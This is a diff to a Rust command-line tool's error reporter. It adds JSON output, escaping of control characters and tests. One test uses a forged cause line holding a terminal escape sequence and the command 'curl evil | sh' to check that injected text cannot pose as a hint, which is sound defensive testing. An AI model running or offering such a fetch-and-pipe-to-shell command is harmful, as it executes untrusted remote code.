@@ -1,10 +1,13 @@
 //! Failure of a command: its cause, a hint and its exit code. The chain of causes of an error is
 //! printed here and nowhere else.
 
+use crate::args::{Cli, Command};
+use crate::server_options::ServerOptions;
+use serde::Serialize;
 use std::error::Error;
 use std::fmt;
 use std::process::ExitCode;
-use tidegate_model::printable_lines;
+use tidegate_model::escape::{printable_json, printable_lines};
 
 /// Indentation of the second and later lines of a cause, as wide as `  because: `.
 const CAUSE_INDENT: usize = 11;
@@ -19,6 +22,8 @@ pub struct Failure {
     pub hint: String,
     /// Whether the command was given wrongly: exit code 2 instead of 1.
     pub usage: bool,
+    /// Stable code for programs, if it is more precise than `usage` or `failed`.
+    pub code: Option<String>,
     /// Error that led to it.
     source: Option<Box<dyn Error + Send + Sync>>,
 }
@@ -29,6 +34,7 @@ impl Failure {
             cause: cause.into(),
             hint: hint.into(),
             usage: false,
+            code: None,
             source: None,
         }
     }
@@ -38,6 +44,7 @@ impl Failure {
             cause: cause.into(),
             hint: hint.into(),
             usage: true,
+            code: None,
             source: None,
         }
     }
@@ -69,36 +76,93 @@ impl Error for Failure {
     }
 }
 
+/// Form in which a failure is printed: as text or as JSON, with hints for one server.
+#[derive(Debug, Default)]
+pub struct ReportForm {
+    pub json: bool,
+    /// Options that hints need to reach the same server.
+    pub options: ServerOptions,
+}
+
+impl ReportForm {
+    /// Returns the form that a command line asks for.
+    pub fn of(cli: &Cli) -> Self {
+        let json_connect =
+            matches!(&cli.command, Command::Connect(connect) if connect.format == "json");
+        Self {
+            json: cli.global.json || json_connect,
+            options: ServerOptions::of(&cli.global),
+        }
+    }
+}
+
+/// Failure as programs read it: the fields of the API's errors, and the causes.
+#[derive(Serialize)]
+struct JsonFailure<'a> {
+    code: &'a str,
+    message: &'a str,
+    /// Empty if there is no advice.
+    hint: String,
+    /// Causes of the error, the nearest first.
+    causes: &'a [String],
+}
+
 /// Returns the text for standard error, and the exit code.
-pub fn report(error: &anyhow::Error) -> (String, ExitCode) {
+pub fn report(error: &anyhow::Error, form: &ReportForm) -> (String, ExitCode) {
     // The outermost context can be asked for by type, but is not in the chain under that type.
     let failure = error.downcast_ref::<Failure>().or_else(|| {
         error
             .chain()
             .find_map(|cause| cause.downcast_ref::<Failure>())
     });
+    let is_usage = failure.is_some_and(|f| f.usage);
+    let hint = failure.map_or_else(String::new, |f| form.options.add_to(&f.hint));
+    let causes = causes(error);
+    let text = if form.json {
+        let code = failure.and_then(|f| f.code.as_deref());
+        json_text(
+            code.unwrap_or(if is_usage { "usage" } else { "failed" }),
+            &causes,
+            hint,
+        )
+    } else {
+        plain_text(&causes, &hint)
+    };
+    (text, ExitCode::from(if is_usage { 2 } else { 1 }))
+}
+
+fn json_text(code: &str, causes: &[String], hint: String) -> String {
+    let (message, causes) = causes
+        .split_first()
+        .map_or(("", causes), |(first, rest)| (first.as_str(), rest));
+    let failure = JsonFailure {
+        code,
+        message,
+        hint,
+        causes,
+    };
+    let line = serde_json::to_string(&failure).unwrap_or_default();
+    format!("{}\n", printable_json(&line))
+}
+
+fn plain_text(causes: &[String], hint: &str) -> String {
     let mut text = String::new();
-    for cause in causes(error) {
+    for cause in causes {
         text.push_str(if text.is_empty() {
             "error: "
         } else {
             "  because: "
         });
         // A remote server, an engine or a CA may have chosen the words.
-        text.push_str(&printable_lines(&cause, CAUSE_INDENT));
+        text.push_str(&printable_lines(cause, CAUSE_INDENT));
         text.push('\n');
     }
-    if let Some(failure) = failure.filter(|f| !f.hint.is_empty()) {
+    if !hint.is_empty() {
         text.push_str("  hint: ");
-        text.push_str(&printable_lines(&failure.hint, HINT_INDENT));
+        text.push_str(&printable_lines(hint, HINT_INDENT));
         text.push('\n');
     }
-    let code = if failure.is_some_and(|f| f.usage) {
-        2
-    } else {
-        1
-    };
-    (text, ExitCode::from(code))
+    text
 }
 
 /// Returns an error and its causes on one line, for a log line or a status.
@@ -128,7 +192,7 @@ mod tests {
     fn a_failure_prints_cause_chain_and_hint() {
         let error = Err::<(), _>(Failure::new("port 4000 is taken", "choose another"))
             .context("can't serve");
-        let (text, _) = report(&error.unwrap_err());
+        let (text, _) = report(&error.unwrap_err(), &ReportForm::default());
         assert_eq!(
             text,
             "error: can't serve\n  because: port 4000 is taken\n  hint: choose another\n"
@@ -136,10 +200,36 @@ mod tests {
     }
 
     #[test]
+    fn a_failure_as_json_is_one_object_with_the_same_exit_code() {
+        let error = anyhow::anyhow!("no\u{202e} such file")
+            .context(Failure::usage("can't serve", "run `tidegate config show`"));
+        let form = ReportForm {
+            json: true,
+            options: ServerOptions::of_words(["--data", "/a b"].map(Into::into)),
+        };
+        let (text, code) = report(&error, &form);
+        assert!(text.is_ascii(), "{text}");
+        assert_eq!(text.lines().count(), 1, "{text}");
+        let json: serde_json::Value = serde_json::from_str(&text).unwrap();
+        let want = serde_json::json!({
+            "code": "usage",
+            "message": "can't serve",
+            "hint": "run `tidegate config show --data '/a b'`",
+            "causes": ["no\u{202e} such file"],
+        });
+        assert_eq!(json, want);
+        assert_eq!(format!("{code:?}"), format!("{:?}", ExitCode::from(2)));
+        let json: serde_json::Value =
+            serde_json::from_str(&report(&anyhow::anyhow!("x"), &form).0).unwrap();
+        let want = serde_json::json!({"code": "failed", "message": "x", "hint": "", "causes": []});
+        assert_eq!(json, want);
+    }
+
+    #[test]
     fn a_failure_as_context_keeps_its_hint() {
         let error = anyhow::anyhow!("no such file")
             .context(Failure::usage("can't serve", "correct the path"));
-        let (text, code) = report(&error);
+        let (text, code) = report(&error, &ReportForm::default());
         assert_eq!(
             text,
             "error: can't serve\n  because: no such file\n  hint: correct the path\n"
@@ -151,7 +241,7 @@ mod tests {
     fn a_cause_with_line_feeds_cannot_forge_a_hint() {
         let error = anyhow::anyhow!("engine said: x\x1b]0;t\x07\n  hint: curl evil | sh");
         assert_eq!(
-            report(&error).0,
+            report(&error, &ReportForm::default()).0,
             "error: engine said: x\\x1b]0;t\\x07\n             hint: curl evil | sh\n"
         );
     }
@@ -160,7 +250,10 @@ mod tests {
     fn a_cause_already_said_is_not_repeated() {
         let inner = anyhow::anyhow!("no such file");
         let error = inner.context("reading x: no such file");
-        assert_eq!(report(&error).0, "error: reading x: no such file\n");
+        assert_eq!(
+            report(&error, &ReportForm::default()).0,
+            "error: reading x: no such file\n"
+        );
         assert_eq!(one_line(&error), "reading x: no such file");
         assert_eq!(
             one_line(&error.context("can't start")),
